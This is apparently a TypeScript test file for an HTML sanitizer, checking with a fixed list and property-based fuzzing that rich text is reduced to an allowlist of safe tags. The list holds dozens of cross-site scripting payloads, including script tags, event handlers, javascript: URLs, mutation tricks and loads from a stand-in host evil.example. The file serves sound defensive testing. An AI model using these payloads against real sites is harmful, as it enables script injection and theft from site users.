import fc from "fast-check";
import { expect, test } from "vitest";
import { cleanFamilyHtml, cleanHtml } from "./rich-text.ts";

/** Vectors of the known families; none may leave anything that a browser would run or fetch. */
const VECTORS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script>alert(1)",
  "</script><script>alert(1)</script>",
  "<script\t>alert(1)</script\t>",
  "<img src=x onerror=alert(1)>",
  '<img src="/demo/a.svg" onerror="alert(1)">',
  '<img src="/demo/a.svg"onload=alert(1)//',
  "<img src=javascript:alert(1)>",
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="https://evil.example/track.gif">',
  '<img src="//evil.example/track.gif">',
  '<img src="/profile/../api/x">',
  '<img src="/profile/%2e%2e/secret">',
  '<img srcset="https://evil.example/a 1x" src="/demo/a.svg">',
  '<img/src="x"/onerror=alert(1)>',
  '<image href="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118ascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="http://trusted.example@evil.example/">x</a>',
  '<a href="https://user:password@evil.example/">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://a.example" target="_blank" onclick="alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate href="#x" attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  '<math href="javascript:alert(1)">x</math>',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<object data=javascript:alert(1)></object>",
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=q><button>x</button></form>',
  "<input autofocus onfocus=alert(1)>",
  "<body onload=alert(1)>",
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="text-align:center;background:url(https://evil.example/x)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<td style="text-align:url(x)">x</td>',
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<template><script>alert(1)</script></template>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><script>alert(1)</script>",
  "<p id=x name=body class=fixed data-x=1 contenteditable>x</p>",
  "<p/onclick=alert(1)>x</p>",
  '<p ondblclick\u000b="alert(1)">x</p>',
  "<custom-tag onpointerdown=alert(1)>x</custom-tag>",
  '"><img src=x onerror=alert(1)>',
  "&lt;img src=x onerror=alert(1)&gt;",
  "<b<i onclick=alert(1)>x",
  "<img alt='\"><script>alert(1)</script>' src='/demo/a.svg'>",
  "<\u0000script>alert(1)</script>",
];

/** Clean text, written down a second time: a tag is one of these or it is wrong. */
const TAG =
  /^<\/?(p|h2|h3|h4|ul|ol|li|strong|em|b|i|u|s|sub|sup|a|blockquote|table|caption|thead|tbody|tr|th|td|figure|figcaption|img|hr|br|span|code|pre)((?: (?:href="(?:https?:\/\/[^"/?#@]+(?:[/?#][^"]*)?|\/(?![/\\])[^"]*|#[^"]*|mailto:[^"]+|tel:[^"]+)"|rel="noopener nofollow"|src="\/(?:profile|demo|prod-api\/profile)\/[\w\-./%]+"|alt="[^"]*"|(?:width|height)="\d{1,4}"|(?:col|row)span="\d{1,2}"|scope="\w+"|style="text-align:(?:left|right|center|justify)"))*)( ?\/)?>$/i;

function expectSafe(html: string, from: string, clean = cleanHtml, form = TAG) {
  for (const tag of html.match(/<[^>]*>?/g) ?? []) {
    expect(tag, `from ${JSON.stringify(from)}`).toMatch(form);
  }
  expect(clean(html), `idempotent: ${JSON.stringify(from)}`).toBe(html);
}

/** The same with what a client of the family may add: nothing that fetches, floats or covers. */
const LINE =
  "(?:text-align:(?:left|right|center|justify)|padding-left:\\d{1,2}em|list-style-type:disc|font-size:(?:0\\.75|1\\.5|2\\.5)em|(?:background-)?color:[#\\w(), ]+|text-indent:2em)";
const FAMILY_TAG = new RegExp(
  TAG.source.replace(
    'style="text-align:(?:left|right|center|justify)"',
    `style="${LINE}(?:;${LINE})*"|class="(?:ql-(?:align|indent|size)-\\w+ ?)+"|target="_blank"|data-list="(?:bullet|ordered)?"`,
  ),
  "i",
);

test.each(VECTORS)("harmless: %s", (vector) => {
  expectSafe(cleanHtml(vector), vector);
  expectSafe(cleanHtml(`<p>前文${vector}后文</p>`), vector);
  expectSafe(cleanHtml(`<table><tr><td>${vector}</td></tr></table>`), vector);
  expectSafe(cleanFamilyHtml(vector), vector, cleanFamilyHtml, FAMILY_TAG);
});

test("what scripts and styles hold is not shown as text", () => {
  expect(cleanHtml("<p>甲<script>alert(1)</script>乙<style>p{}</style></p>")).toBe("<p>甲乙</p>");
});

test("good text stays as it is", () => {
  const good = [
    "<h2>一、总则</h2><p>第一条　<strong>宗旨</strong>：<em>研究</em>与<u>服务</u>。</p>",
    "<ul><li>一</li><li>二<ol><li>甲</li></ol></li></ul>",
    '<table><caption>表 1</caption><thead><tr><th scope="col">项目</th><th colspan="2" scope="col">金额</th></tr></thead><tbody><tr><th scope="row">会费</th><td style="text-align:right">586.6</td><td rowspan="2">—</td></tr></tbody></table>',
    '<figure><img src="/demo/after-school-minutes.svg" alt="条形图" width="720" height="420" /><figcaption>图</figcaption></figure>',
    '<p><a href="/article?articleId=1">本站</a><a href="#a">本页</a><a href="mailto:a@example.org">邮件</a><a href="tel:010-00000000">电话</a></p>',
    '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow">外链</a></p>',
    "<blockquote><p>“静以修身。”</p></blockquote><pre><code>a &lt; b</code></pre><hr /><p>H<sub>2</sub>O x<sup>2</sup><br />末</p>",
    '<p style="text-align:center">居中</p>',
    '<p><img src="/prod-api/profile/upload/2026/11/20/a.png" alt="" /></p>',
  ];
  for (const html of good) expect(cleanHtml(html)).toBe(html);
});

test("headings of a page's own levels are brought into the article's", () => {
  expect(cleanHtml("<h1>题</h1><h5>小</h5><div><p>段</p></div>")).toBe(
    "<h2>题</h2><h4>小</h4><p>段</p>",
  );
});

test("a rel of the writer's own is replaced", () => {
  expect(
    cleanHtml('<a href="/x" rel="me">x</a><a href="https://e.example/" rel="opener">y</a>'),
  ).toBe('<a href="/x">x</a><a href="https://e.example/" rel="noopener nofollow">y</a>');
});

test("anything typed is safe and cleaning is idempotent", () => {
  const piece = fc.constantFrom(
    ...VECTORS,
    "<p>",
    "</p>",
    "<b",
    ">",
    "<",
    '"',
    "'",
    "=",
    "&",
    "&#60;",
    "<!--",
    "-->",
    "<a href=",
    "</a>",
    "<table>",
    "<tr>",
    "<td>",
    "<li>",
    "<ul>",
    " onclick=",
    ' class="ql-align-center x"',
    ' style="color:red;position:fixed;background:url(//e)"',
    "<span",
    ' data-list="bullet"',
    "正文",
    "<img ",
    "src=/demo/a.svg",
    "/>",
    "\n",
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 12 }), (parts) => {
      const dirty = parts.join("");
      expectSafe(cleanHtml(dirty), dirty);
      expectSafe(cleanFamilyHtml(dirty), dirty, cleanFamilyHtml, FAMILY_TAG);
    }),
    { numRuns: 1_000 },
  );
});

test("deep nesting and long text end quickly", () => {
  const began = performance.now();
  cleanHtml(`${"<b>".repeat(20_000)}x`);
  cleanHtml("<".repeat(100_000));
  cleanHtml(`<a href="${"x".repeat(100_000)}">y</a>`);
  expect(performance.now() - began).toBeLessThan(5_000);
});
